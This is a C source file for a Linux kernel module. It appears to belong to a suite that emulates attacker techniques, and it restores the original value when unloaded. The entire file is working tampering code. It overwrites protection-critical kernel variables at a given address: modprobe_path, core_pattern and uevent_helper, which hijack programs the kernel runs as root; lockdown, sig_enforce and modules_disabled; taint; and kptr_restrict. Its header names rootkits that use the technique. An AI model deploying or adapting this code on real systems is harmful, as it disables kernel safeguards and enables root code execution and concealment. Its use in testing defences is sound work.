// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a variable on which the kernel's protection hangs is written, past whatever guards it: a program that the
 * kernel runs (how=modprobe_path, core_pattern, uevent_helper, poweroff_cmd), a switch that only goes one way
 * (how=modules_disabled, kexec_load_disabled, sig_enforce, lockdown), taint (how=taint), restrictions (how=kptr_restrict, ...).
 * Who: exploits (modprobe_path, core_pattern), KoviD and Singularity (taint).
 * Changes: the variable at `place`, to the text `text` or the number `number`; then to each number that is written to the
 * parameter `now`, for what has to be raised before it can be lowered. Undone when it is unloaded.
 */
#include "attack.h"

static unsigned long place;
module_param(place, ulong, 0);
static char *text;
module_param(text, charp, 0);
static ulong number;
module_param(number, ulong, 0);
static uint size = 4;
module_param(size, uint, 0);

static u8 original[64];

static int set_now(const char *value, const struct kernel_param *parameter)
{
	int error = kstrtoul(value, 0, &number);

	if (!error)
		write_protected((void *)place, &number, size);
	return error;
}
static const struct kernel_param_ops now_operations = {.set = set_now};
module_param_cb(now, &now_operations, NULL, 0200);

static int __init start(void)
{
	if (!place || size > sizeof(number) || (text && strlen(text) >= sizeof(original)))
		return -EINVAL;
	if (text)
		size = strlen(text) + 1;
	memcpy(original, (void *)place, size);
	write_protected((void *)place, text ? (void *)text : (void *)&number, size);
	return 0;
}

static void __exit stop(void)
{
	write_protected((void *)place, original, size);
}

ATTACK(start, stop);
